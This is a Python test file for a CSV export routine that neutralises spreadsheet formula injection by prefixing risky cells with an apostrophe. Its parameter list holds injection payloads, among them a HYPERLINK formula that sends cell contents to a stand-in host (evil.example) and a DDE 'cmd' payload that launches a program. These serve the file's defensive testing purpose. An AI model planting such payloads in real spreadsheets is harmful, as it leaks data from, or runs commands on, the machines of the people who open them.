"""CSV for spreadsheets: what a portal wrote stays text, whatever it begins with."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pyarrow as pa
import pytest

from publish.spreadsheet import BOM, SheetCount, guard, sheet_bytes


def written(table: pa.Table, count: SheetCount | None = None, **more: object) -> bytes:
    options = {"where": {}, "columns": table.column_names, **more}
    return b"".join(sheet_bytes(table, count or SheetCount(), **options))


def read(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"关于印发实施方案的通知")',
        "+SUM(1,1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain words",
        "  =1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\u200b@SUM(1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "=",
    ],
)
def test_a_title_that_a_spreadsheet_would_run_stays_text(title: str) -> None:
    count = SheetCount()
    assert read(written(pa.table({"title": [title]}), count)) == [["title"], [f"'{title}"]]
    assert (count.rows, count.guarded) == (1, 1)


@pytest.mark.parametrize("title", ["关于a=b的通知", "2025年工作要点", "'quoted", "（试行）", "“=”号", "", "——说明"])
def test_a_harmless_title_stays_as_it_is(title: str) -> None:
    count = SheetCount()
    assert read(written(pa.table({"title": [title]}), count)) == [["title"], [title]]
    assert count.guarded == 0


def test_a_list_is_guarded_as_the_one_cell_that_it_becomes() -> None:
    table = pa.table({"issuers": [["=1+1", "青岚市财政局"], ["青岚市财政局", "=1+1"], []]})
    assert read(written(table))[1:] == [["'=1+1；青岚市财政局"], ["青岚市财政局；=1+1"], [""]]


def test_numbers_days_times_and_truth_are_values_and_never_guarded() -> None:
    table = pa.table(
        {
            "number": [-5],
            "share": [-0.5],
            "day": [date(2025, 3, 4)],
            "at": pa.array([datetime(2025, 3, 3, 18, 30, tzinfo=UTC)], pa.timestamp("us", "UTC")),
            "noise": [False],
            "nothing": pa.array([None], pa.string()),
        }
    )
    count = SheetCount()
    assert read(written(table, count))[1] == ["-5", "-0.5", "2025-03-04", "2025-03-03T18:30:00Z", "false", ""]
    assert count.guarded == 0


def test_the_bytes_are_what_excel_expects() -> None:
    table = pa.table({"title": ['他说"不"，;=1+1\n第二行'], "n": [1]})
    assert written(table) == BOM + '"title","n"\r\n"他说""不""，;=1+1\n第二行","1"\r\n'.encode()


def test_rows_are_chosen_by_what_a_column_says_or_one_of_its_items() -> None:
    table = pa.table(
        {
            "id": ["a", "b", "c"],
            "status": ["in_force", "repealed", "in_force"],
            "issuers": [["甲局"], ["甲局"], ["乙局", "丙局"]],
            "doc_number": pa.array([None, "青政发〔2025〕1号", "青政发〔2025〕2号"], pa.string()),
        }
    )

    def ids(**where: str) -> list[str]:
        return [row[0] for row in read(written(table, where=where, columns=["id"]))[1:]]

    assert ids(status="in_force") == ["a", "c"]
    assert ids(status="in_force", issuers="丙局") == ["c"]
    assert ids(doc_number="") == ["a"]
    assert ids(status="IN_FORCE") == []


def test_a_cell_too_long_for_excel_is_counted_and_written_whole() -> None:
    count = SheetCount()
    table = pa.table({"text": ["长" * 32_768, "短" * 32_767]})
    assert [len(row[0]) for row in read(written(table, count))[1:]] == [32_768, 32_767]
    assert count.too_long == 1


def test_guarding_twice_changes_nothing() -> None:
    assert guard(guard("=1")) == "'=1"
